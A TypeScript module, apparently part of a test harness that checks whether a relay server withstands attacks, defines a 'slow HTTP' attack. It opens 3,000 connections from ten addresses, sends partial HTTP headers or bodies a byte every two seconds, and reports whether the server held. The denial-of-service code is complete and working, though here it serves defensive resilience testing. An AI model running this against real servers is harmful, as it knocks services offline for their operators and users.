import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import type { Attack } from '../attack.ts'

const beginnings = [
  'GET / HTTP/1.1\r\nHost: relay\r\n',
  'PUT /upload HTTP/1.1\r\nHost: relay\r\nContent-Length: 100000\r\n\r\n',
  'PUT /elsewhere HTTP/1.1\r\nHost: relay\r\nContent-Length: 100000\r\n\r\n',
  'POST / HTTP/1.1\r\nHost: relay\r\nTransfer-Encoding: chunked\r\n\r\n',
]

/** Connections that cost the attacker one byte every few seconds. */
export const slowHttp: Attack = {
  name: 'slow HTTP',
  tries: '3,000 plain connections from ten addresses send a byte every two seconds: headers, uploads, other bodies',
  async run(stage) {
    const sockets: Socket[] = []
    for (let number = 0; number < 3000 && !stage.signal.aborted; number++) {
      const socket = connect({ ...stage.endpoint, localAddress: stage.address(number % 10) })
      socket.on('error', () => {})
      socket.resume()
      socket.write(beginnings[number % beginnings.length] ?? '')
      sockets.push(socket)
      if (number % 100 === 99) await delay(10)
    }
    await delay(1000)
    const welcomed = sockets.filter(({ destroyed, readyState }) => !destroyed && readyState === 'open').length
    while (!stage.signal.aborted) {
      await delay(2000)
      for (const [number, socket] of sockets.entries()) {
        if (socket.readyState === 'open') socket.write(number % beginnings.length === 0 ? 'a' : '1')
        stage.spent(1)
      }
    }
    const left = sockets.filter(({ destroyed, readyState }) => !destroyed && readyState === 'open').length
    for (const socket of sockets) socket.destroy()
    const seen = `${welcomed} of 3,000 let in, ${left} open after ${stage.seconds} s`
    return stage.seconds >= 25 ? { seen, held: left <= 300 } : { seen }
  },
}
